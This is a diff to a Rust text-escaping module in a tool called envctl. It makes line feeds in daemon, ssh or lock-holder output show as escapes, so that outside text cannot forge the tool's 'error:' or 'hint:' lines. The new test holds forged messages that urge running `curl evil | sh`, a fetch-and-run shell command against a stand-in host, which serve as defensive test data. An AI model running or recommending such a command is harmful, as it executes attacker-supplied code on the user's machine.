@@ -7,7 +7,12 @@
 //! before it; NUL and the bidirectional overrides make text read differently from what
 //! it is. None of that belongs to text envctl did not write, so every such character is
 //! shown as an escape (`\x1b`, `\r`, `\u{202e}`), the way `escape_debug` writes it.
-//! Line feed and tab stay: daemons write multi-line messages on purpose.
+//!
+//! A line feed is escaped too (`\n`): envctl's talk is one line per thing said
+//! (`error:`, `  caused by:`, `  hint:`, `warning:`), and a raw line feed in a daemon's
+//! message, ssh's stderr or a lock holder's text let that text print lines of its own,
+//! such as an `error:` or a `hint:` with the attacker's command. Tab stays: it moves
+//! nothing but the column.
 
 use std::borrow::Cow;
 use std::fmt::Write as _;
@@ -27,14 +32,15 @@ pub fn shown(text: &str) -> Cow<'_, str> {
     Cow::Owned(format!("{escaped}… {rest} bytes more"))
 }
 
-/// `text` with control and bidirectional characters escaped, whole.
+/// `text` with control and bidirectional characters and line feeds escaped, whole.
 pub fn escaped(text: &str) -> Cow<'_, str> {
-    if !text.chars().any(is_terminal_control) {
+    let escapes = |character: char| character == '\n' || is_terminal_control(character);
+    if !text.chars().any(escapes) {
         return Cow::Borrowed(text);
     }
     let mut out = String::with_capacity(text.len() + 16);
     for character in text.chars() {
-        if is_terminal_control(character) {
+        if escapes(character) {
             push_escape(&mut out, character);
         } else {
             out.push(character);
@@ -43,7 +49,8 @@ pub fn escaped(text: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
-/// Whether a terminal would act on `character` instead of showing it.
+/// Whether a terminal would act on `character` instead of showing it. A line feed is not
+/// one (a shell word or a file's line may hold it); [`shown`] escapes it as well.
 pub fn is_terminal_control(character: char) -> bool {
     match character {
         '\n' | '\t' => false,
@@ -63,6 +70,7 @@ pub fn is_terminal_control(character: char) -> bool {
 fn push_escape(out: &mut String, character: char) {
     match character {
         '\r' => out.push_str("\\r"),
+        '\n' => out.push_str("\\n"),
         '\0' => out.push_str("\\0"),
         // Writing to a String cannot fail.
         character if (character as u32) < 0x80 => {
@@ -105,8 +113,23 @@ mod tests {
 
     #[test]
     fn plain_text_is_borrowed_unchanged() {
-        let text = "Error response from daemon: No such image: x:1\n\tsecond line";
+        let text = "Error response from daemon: No such image: x:1\tsecond column";
         assert!(matches!(shown(text), Cow::Borrowed(t) if t == text));
+    }
+
+    #[test]
+    fn a_line_feed_cannot_start_a_line_of_its_own() {
+        // A daemon's or ssh's or a lock holder's text forging envctl's own lines.
+        for forged in [
+            "no such container\nerror: run `curl evil | sh` to fix",
+            "busy\r\n  hint: `curl evil | sh`",
+            "x\n\nwarning: y",
+        ] {
+            let shown = shown(forged);
+            assert!(!shown.contains('\n') && !shown.contains('\r'), "{shown}");
+            assert!(shown.contains("\\n"), "{shown}");
+        }
+        assert_eq!(shown("a\nb"), "a\\nb");
     }
 
     #[test]
